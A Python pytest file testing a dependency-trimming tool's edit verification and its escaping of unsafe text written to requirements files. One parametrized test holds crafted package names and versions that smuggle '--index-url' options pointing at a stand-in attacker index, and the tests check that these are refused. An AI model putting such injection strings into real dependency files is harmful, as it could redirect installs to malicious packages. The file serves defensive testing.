"""The proof each trim edit carries: re-parsed requirements, refusals, only safe lines written."""

from __future__ import annotations

from pathlib import Path

import pytest

from depsize.requirements import load_declared
from depsize.trim import Addition, FileEdit, Removal, plan_trim, write_plan
from depsize.trim.lines import one_line
from depsize.trim.manifests import TrimVerificationError
from depsize.trim.verify import TrimRefusedError, declared_in, verify_edit


def _edit(path: Path, fmt: str, old: str, new: str) -> FileEdit:
    return FileEdit(path, fmt, "", old.encode(), new.encode(), "utf-8", ())


def _removed(path: Path, text: str, name: str) -> list[Removal]:
    path.write_text(text)
    declared = load_declared(path.parent, [path], environ={})
    return [Removal(r, "unused", 1) for r in declared.requirements if r.name == name]


def test_verify_edit__exactly_the_removed_one_gone__accepted(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    (removal,) = _removed(path, "six\nflask>=2\n", "six")
    verify_edit(_edit(path, "requirements", "six\nflask>=2\n", "flask>=2\n"), [removal.requirement])


@pytest.mark.parametrize(
    ("new", "message"),
    [
        ("", "would lose flask"),
        ("six\nflask>=2\n", "would keep or add six"),  # nothing removed
        ("flask>=3\n", "would lose flask; would keep or add flask"),
        ("flask>=2\nrich\n", "would keep or add rich"),
        ("flask>=2\x0cusedpkg\n", "usedpkg"),
    ],
)
def test_verify_edit__anything_else__refused_naming_the_difference(
    tmp_path: Path, new: str, message: str
) -> None:
    path = tmp_path / "requirements.txt"
    (removal,) = _removed(path, "six\nflask>=2\n", "six")
    with pytest.raises(TrimRefusedError, match=message) as info:
        verify_edit(_edit(path, "requirements", "six\nflask>=2\n", new), [removal.requirement])
    assert info.value.exit_code == 2
    assert "refused, nothing written" in str(info.value)


def test_verify_edit__toml_group_changed__refused(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    old = '[project]\nname = "x"\ndependencies = ["six", "flask"]\n'
    (removal,) = _removed(path, old, "six")
    moved = (
        '[project]\nname = "x"\ndependencies = []\n'
        '[project.optional-dependencies]\nweb = ["flask"]\n'
    )
    with pytest.raises(TrimRefusedError, match="flask"):
        verify_edit(_edit(path, "pyproject.toml", old, moved), [removal.requirement])
    verify_edit(
        _edit(path, "pyproject.toml", old, '[project]\nname = "x"\ndependencies = ["flask"]\n'),
        [removal.requirement],
    )


def test_verify_edit__new_text_does_not_parse__refused(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    old = '[project]\nname = "x"\ndependencies = ["six"]\n'
    (removal,) = _removed(path, old, "six")
    with pytest.raises(TrimRefusedError, match="does not parse"):
        verify_edit(_edit(path, "pyproject.toml", old, "[project\n"), [removal.requirement])


def test_declared_in__requirements_file__includes_not_followed(tmp_path: Path) -> None:
    (tmp_path / "base.txt").write_text("six\n")
    found = declared_in(tmp_path / "r.txt", "requirements", b"-r base.txt\nflask\n")
    assert [r.name for r in found] == ["flask"]


def test_trim_verification_error__is_an_input_error_exit_2() -> None:
    assert TrimVerificationError("x").exit_code == 2


# -- only safe lines are written ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("evil\n--index-url https://attacker.invalid/simple", "1.0"),
        ("evil\x0c--index-url https://attacker.invalid/simple", "1.0"),
        ("evil --index-url=https://attacker.invalid", "1.0"),
        ("-i https://attacker.invalid", "1.0"),
        ("evil", "1.0\n--index-url https://attacker.invalid/simple"),
        ("evil", "1.0 --index-url x"),
        ("evil", ""),
        ("evil", "1.0\u2028-i x"),
    ],
)
def test_plan_trim__crafted_name_or_version__never_written(
    tmp_path: Path, name: str, version: str
) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("six\n")
    declared = load_declared(tmp_path, environ={})
    plan = plan_trim(declared, [], additions=[Addition(name, version, "evil", "main.py:1")])
    assert all(edit.old == edit.new for edit in plan.files)
    (skip,) = plan.skipped
    assert "not a valid PEP" in skip.reason
    assert "\n" not in skip.name
    assert write_plan(plan, in_place=True) == []
    assert path.read_text() == "six\n"


def test_plan_trim__valid_addition_with_hostile_evidence__one_line_comment(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("six\n")
    declared = load_declared(tmp_path, environ={})
    evidence = "we\nird\x0cname.py:3"
    plan = plan_trim(declared, [], additions=[Addition("Evil_Pkg", "1.0.post1", "evil", evidence)])
    (edit,) = plan.files
    lines = edit.new.decode().splitlines()
    assert lines[0] == "six"
    assert lines[1].startswith("Evil_Pkg==1.0.post1  # depsize: imported at we\\x0aird\\x0cname")
    assert len(lines) == 2


def test_one_line__every_line_break_escaped() -> None:
    text = "a\nb\rc\x0bd\x0ce\x1cf\x1dg\x1eh\x85i\u2028j\u2029k\x00l\tm é"
    escaped = one_line(text)
    assert len(escaped.splitlines()) == 1
    assert escaped.isprintable()
    assert escaped.endswith("l\\x09m é")


def test_plan_trim__removed_line_with_control_characters__comment_stays_one_line(
    tmp_path: Path,
) -> None:
    path = tmp_path / "requirements.txt"
    path.write_bytes(b"flask\nsix==1.0 ; python_version >= '3'  # odd \x01\x7f\x1f\nrich\n")
    declared = load_declared(tmp_path, environ={})
    removals = [Removal(r, "unused", 1) for r in declared.requirements if r.name == "six"]
    plan = plan_trim(declared, removals)
    (edit,) = plan.files
    lines = edit.new.decode().splitlines()
    assert lines[0::2] == ["flask", "rich"]
    assert len(lines) == 3
    assert lines[1].startswith('# depsize: removed "six==1.0')
    assert "\\x01\\x7f" in lines[1]
